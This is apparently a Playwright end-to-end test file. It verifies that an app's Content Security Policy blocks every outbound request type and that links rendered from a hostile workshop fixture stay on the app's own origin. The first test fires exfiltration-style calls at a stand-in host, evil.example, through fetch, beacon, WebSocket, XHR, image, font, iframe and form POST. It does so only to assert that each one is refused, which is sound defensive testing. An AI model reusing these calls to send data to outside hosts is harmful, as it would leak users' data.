import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { parseEndfirstFile } from '../../shared/domain/file-format';
import { STAGE_IDS } from '../../shared/method/stages';
import { expect, openApp, test } from './fixtures';
import { seedWorkshops } from './seed';

/**
 * Nothing may take the app off its origin or send a byte off the machine (modelled on
 * actualbudget/actual's navigation-security e2e test).
 *
 * What a plain browser can honestly prove is the renderer's half: the CSP (identical header and
 * meta in Electron) refuses every outbound request type, and every link the app renders, even
 * from a hostile workshop, is a hash route of our own page. The Electron half (an off-origin link
 * click, form POST, redirect or window.open is stopped by will-navigate / will-redirect /
 * setWindowOpenHandler) cannot run here and is covered by test/unit/electron/navigation-guard.test.ts.
 * Every assertion reads securitypolicyviolation events and intercepted requests, never the network.
 */

interface Violation {
  readonly directive: string;
  readonly blocked: string;
}

declare global {
  interface Window {
    __violations?: Violation[];
  }
}

const EVIL = 'https://evil.example';

/** Records every CSP violation from the first byte, and aborts (and lists) any request that leaves our origin. */
async function watch(page: Page, origin: string) {
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      window.__violations?.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
    );
  });
  const leaked: string[] = [];
  await page.route('**/*', async (route) => {
    const url = route.request().url();
    if (url.startsWith(origin) || url.startsWith('data:') || url.startsWith('blob:')) return route.continue();
    leaked.push(url);
    return route.abort('blockedbyclient');
  });
  return leaked;
}

const violations = (page: Page) => page.evaluate(() => window.__violations ?? []);

test('the CSP refuses every outbound request type before it reaches the network', async ({ page, problems, baseURL }) => {
  const origin = new URL(baseURL ?? '').origin;
  const leaked = await watch(page, origin);
  await openApp(page);
  const appUrl = page.url();

  await page.evaluate((evil) => {
    const swallow = (attempt: () => unknown) => {
      try {
        const result = attempt();
        if (result instanceof Promise) result.catch(() => undefined);
      } catch {
        // a synchronous SecurityError is a refusal too; the violation event is what we assert
      }
    };
    swallow(() => fetch(`${evil}/fetch`));
    swallow(() => fetch('http://127.0.0.1:9/another-port')); // 'self' is this origin only, not this machine
    swallow(() => navigator.sendBeacon(`${evil}/beacon`, 'x'));
    swallow(() => new WebSocket('wss://evil.example/socket'));
    swallow(() => new EventSource(`${evil}/events`));
    swallow(() => {
      const request = new XMLHttpRequest();
      request.open('GET', `${evil}/xhr`);
      request.send();
    });
    swallow(() => {
      const image = new Image();
      image.src = `${evil}/pixel.png`;
      document.body.append(image);
    });
    swallow(() => new FontFace('Exfiltrate', `url(${evil}/font.woff2)`).load());
    swallow(() => {
      const frame = document.createElement('iframe');
      frame.src = `${evil}/frame`;
      document.body.append(frame);
    });
    swallow(() => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `${evil}/form`;
      document.body.append(form);
      form.submit();
    });
  }, EVIL);

  // Each attempt is reported once per policy (the header and the identical meta tag both refuse it).
  const refused = async () => {
    const byDirective = new Map<string, Set<string>>();
    for (const { directive, blocked } of await violations(page)) {
      byDirective.set(directive, (byDirective.get(directive) ?? new Set()).add(blocked.replace(/\/$/, '')));
    }
    return Object.fromEntries([...byDirective].map(([directive, urls]) => [directive, [...urls].sort()]));
  };
  await expect
    .poll(refused)
    .toEqual({
      'connect-src': [`${EVIL}/beacon`, `${EVIL}/events`, `${EVIL}/fetch`, `${EVIL}/xhr`, 'http://127.0.0.1:9/another-port', 'wss://evil.example/socket'].sort(),
      'img-src': [`${EVIL}/pixel.png`],
      'font-src': [`${EVIL}/font.woff2`],
      'frame-src': [EVIL], // frame reports name the origin only
      'form-action': [`${EVIL}/form`],
    });
  expect(page.url()).toBe(appUrl); // the form did not navigate
  // Chromium announces some refused requests ('request' events, so problems.offsiteRequests lists
  // them), but none reached the network layer, where the route handler would have caught it.
  expect(leaked).toEqual([]);
  expect(problems.pageErrors).toEqual([]);
});

test('every link the app renders, even from a hostile workshop, stays on our page', async ({ page, problems, baseURL }) => {
  test.slow(); // visits the library and all nine stages
  const origin = new URL(baseURL ?? '').origin;
  const leaked = await watch(page, origin);
  const parsed = parseEndfirstFile(readFileSync(new URL('../fixtures/imports/valid-markup-in-every-text-field.endfirst', import.meta.url), 'utf8'));
  if (!parsed.ok) throw new Error('the hostile-markup fixture should parse');
  const hostile = parsed.workshops[0]!;
  await openApp(page);
  await seedWorkshops(page, [hostile]);

  const offPageLinks = () =>
    page.evaluate(() =>
      [...document.querySelectorAll<HTMLAnchorElement | HTMLAreaElement>('a[href], area[href], form[action]')]
        .map((element) => element.getAttribute('href') ?? element.getAttribute('action') ?? '')
        .filter((href) => {
          const url = new URL(href, location.href);
          return url.origin !== location.origin || url.pathname !== location.pathname || !url.hash.startsWith('#/');
        }),
    );

  await page.reload();
  await expect(page.getByRole('list', { name: 'Workshops' })).toBeVisible();
  expect(await offPageLinks(), 'library').toEqual([]);
  for (const stage of STAGE_IDS) {
    await page.goto(`./#/workshop/${hostile.id}/${stage}`);
    await expect(page.locator('main h1, main h2').first()).toBeVisible();
    expect(await offPageLinks(), stage).toEqual([]);
  }
  // Following the app's own links keeps the page: a click on the library link lands on our origin.
  await page.getByRole('link', { name: /workshop library/ }).click();
  await expect(page.getByRole('list', { name: 'Workshops' })).toBeVisible();
  expect(new URL(page.url()).origin).toBe(origin);

  expect((await violations(page)).map((v) => `${v.directive} ${v.blocked}`)).toEqual([]); // markup stayed text: nothing even tried
  expect(leaked).toEqual([]);
  expect(problems.pageErrors).toEqual([]);
});
